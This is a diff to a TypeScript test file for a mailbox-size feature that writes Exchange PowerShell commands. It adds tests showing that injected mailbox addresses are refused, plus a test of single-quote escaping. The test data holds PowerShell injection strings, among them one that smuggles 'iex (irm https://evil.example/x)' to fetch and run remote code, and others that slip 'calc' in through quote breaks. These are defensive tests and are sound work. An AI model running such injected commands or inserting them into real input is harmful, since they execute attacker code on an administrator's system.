@@ -1,7 +1,7 @@
 import assert from "node:assert/strict";
 import { isBlockedType } from "../../../src/delivery/blockedTypes.ts";
 import { departureReasons } from "../../../src/delivery/departureReasons.ts";
-import { adminCommands, messageLimit } from "../../../src/delivery/messageLimit.ts";
+import { adminCommands, inPowerShell, messageLimit } from "../../../src/delivery/messageLimit.ts";
 import { encodedBytes } from "../../../src/shared/encodedSize.ts";
 import { SETTINGS } from "../../../src/ui/settingSchemas.ts";
 import { attachment as attachmentRecord, emptyForm as form } from "../../support/records.ts";
@@ -91,6 +91,30 @@ describe("A mailbox's limit", () => {
       /^Set-TransportConfig -MaxSendSize 150MB -MaxReceiveSize 150MB$/m,
     );
   });
+
+  for (const address of [
+    "kim\u2019; iex (irm https://evil.example/x); #@corp.example",
+    "kim@corp.example\u2018",
+    "kim@corp.example'; calc; #",
+    "kim@corp.example\ncalc",
+    "a@corp.example, b@corp.example",
+    "Kim <kim@corp.example>",
+    '"kim"@corp.example',
+    "kïm@corp.example",
+    "6f3d1b52-8c1e-4f0a-9a53-2b7d54c0e611",
+    "",
+  ])
+    it(`names no mailbox that is called ${JSON.stringify(address)}`, () =>
+      assert.equal(
+        adminCommands(address),
+        "# For the whole organization:\nSet-TransportConfig -MaxSendSize 150MB -MaxReceiveSize 150MB\n",
+      ));
+
+  it("takes every character that PowerShell reads as a single quote for text", () =>
+    assert.equal(
+      inPowerShell("a'b\u2018c\u2019d\u201ae\u201bf$(x)`"),
+      "'a''b\u2018\u2018c\u2019\u2019d\u201a\u201ae\u201b\u201bf$(x)`'",
+    ));
 });
 
 describe("Types that Outlook blocks", () => {
